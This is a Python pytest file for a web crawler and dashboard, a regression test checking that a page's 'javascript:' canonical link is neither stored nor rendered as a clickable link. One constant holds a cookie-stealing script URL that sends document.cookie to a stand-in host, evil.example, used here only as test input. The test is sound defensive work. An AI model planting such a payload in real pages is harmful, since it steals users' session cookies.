"""Issue 9, item 10: a crawled page's ``javascript:`` canonical link is not stored, and never rendered as a link.

A real crawl job on a real ``tidings serve`` against a real local site whose listing page has
``<link rel="canonical" href="javascript:...">``; then the dashboard in Chromium, with such a URL already in the
database (stored before this fix), shows it as text, not as a link.
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import http.server
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from tests.browser.conftest import browser, new_page, sign_in  # noqa: F401 - fixtures
from tests.conftest import LiveServer

EVIL = "javascript:fetch('//evil.example/?c='+document.cookie)"
PAGE = f"""<!doctype html><html><head><link rel="canonical" href="{EVIL}"></head><body>
<article class="listing listing-detail"><h1 class="title">Flat with a view</h1>
<p class="price">€250,000</p><p class="location">Lisbon</p><p class="bedrooms">2 bedrooms</p></article>
</body></html>""".encode()


@pytest.fixture
def site() -> Iterator[int]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(PAGE)))
            self.end_headers()
            self.wfile.write(PAGE)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        yield httpd.server_address[1]
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_a_javascript_canonical_link_is_not_stored(server_factory: Any, site: int) -> None:
    server: LiveServer = server_factory(
        env={
            "TIDINGS_CRAWL_ALLOWED_HOSTS": f"127.0.0.1:{site}",
            "TIDINGS_CRAWL_SETTINGS": '{"DOWNLOAD_DELAY": 0, "AUTOTHROTTLE_ENABLED": false}',
        }
    )
    server.create_user("ann")
    auth = {"Authorization": f"Bearer {server.token('ann')}"}
    page_url = f"http://127.0.0.1:{site}/listing/1.html"
    created = httpx.post(
        f"{server.url}/api/jobs", json={"spider_name": "listings", "target_urls": [page_url]}, headers=auth, timeout=30
    )
    assert created.status_code == 201, created.text
    deadline = time.monotonic() + 120
    while (job := httpx.get(f"{server.url}/api/jobs/{created.json()['job_id']}", headers=auth).json())["status"] in (
        "pending",
        "running",
    ):
        assert time.monotonic() < deadline, job
        time.sleep(0.3)
    assert job["status"] == "completed", job
    properties = httpx.get(f"{server.url}/api/properties", headers=auth).json()["properties"]
    assert [p["url"] for p in properties] == [page_url], properties


def _insert_property(server: LiveServer, url: str) -> int:
    from tidings.crawler.models import Property
    from tidings.db import Database

    async def run() -> int:
        db = Database(server.database_url)
        try:
            async with db.session() as session:
                prop = Property(url=url, title="Legacy listing", location="Porto")
                session.add(prop)
                await session.flush()
                return prop.id
        finally:
            await db.dispose()

    with concurrent.futures.ThreadPoolExecutor(1) as pool:  # Playwright runs an event loop in this thread
        return pool.submit(asyncio.run, run()).result()


@pytest.mark.browser
def test_the_dashboard_renders_only_http_urls_as_links(server_factory: Any, new_page: Callable[[], Any]) -> None:  # noqa: F811
    from playwright.sync_api import expect

    server: LiveServer = server_factory()
    server.create_user("ann")
    evil_id = _insert_property(server, EVIL)
    good_id = _insert_property(server, "https://listings.example/flat/7")
    page = sign_in(new_page(), server, "ann", hash_=f"#property/{evil_id}")
    facts = page.locator("#property-facts")
    expect(facts).to_contain_text("javascript:")
    expect(facts.locator("a")).to_have_count(0)
    page.goto(f"{server.url}/dashboard#property/{good_id}")
    link = page.locator("#property-facts a")
    expect(link).to_have_attribute("href", "https://listings.example/flat/7")
